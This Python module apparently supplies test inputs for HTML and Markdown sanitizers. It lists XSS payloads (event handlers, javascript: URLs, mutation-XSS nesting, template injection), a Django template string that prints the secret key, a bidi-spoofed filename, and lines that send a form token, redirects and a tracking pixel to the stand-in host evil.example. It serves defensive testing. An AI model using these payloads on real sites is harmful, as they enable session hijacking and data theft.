"""Texts that want to be more than text. Each one that runs leaves a mark: `window.ran`."""

from __future__ import annotations

RUNS = "window.ran=1"

TEXTS = (
    f"<script>{RUNS}</script>",
    f'"><img src=x onerror="{RUNS}">',
    f"'><svg/onload={RUNS}>",
    f"</script><script>{RUNS}</script>",
    f"</textarea></title></style><script>{RUNS}</script>",
    f"--><script>{RUNS}</script><!--",
    f"javascript:{RUNS}",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"{{{{constructor.constructor('{RUNS}')()}}}}",
    f"${{{RUNS}}}`{RUNS}`",
    f"';{RUNS};//",
    f'<iframe srcdoc="<script>parent.{RUNS}</script>">',
    f"<details open ontoggle={RUNS}>",
    f'<a href="javascript:{RUNS}" autofocus onfocus={RUNS}>x</a>',
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
    f"<form action=//evil.example><input name=csrfmiddlewaretoken><button formaction=javascript:{RUNS}>",
    f'<div hx-get="/me/" hx-trigger="load" hx-on:load="{RUNS}" data-hx-vals="js:{{a:{RUNS}}}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUNS}&gt;">',
    "{% load static %}{{ settings.SECRET_KEY }}{% debug %}",
    "\u202egnp.exe\u2066 \u200b\u00a0\ufeff",
)

MARKDOWN = (
    f"[link](javascript:{RUNS})",
    f"[link](JaVaScRiPt&colon;{RUNS})",
    f'![x](x "onerror={RUNS}")',
    f"<javascript:{RUNS}>",
    f"[x]: javascript:{RUNS}\n\n[x]",
    f'[link](https://example.org/"onmouseover="{RUNS})',
    f"```html\n<script>{RUNS}</script>\n```",
    f"| a |\n| - |\n| <img src=x onerror={RUNS}> |",
    "![seen](https://evil.example/pixel.png)",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    *TEXTS,
)


def short(limit: int) -> list[str]:
    """Return the texts that fit into so many characters."""
    return [text for text in TEXTS if len(text) <= limit]


def document(texts: tuple[str, ...]) -> str:
    """Return them as one text."""
    return "\n\n".join(texts)
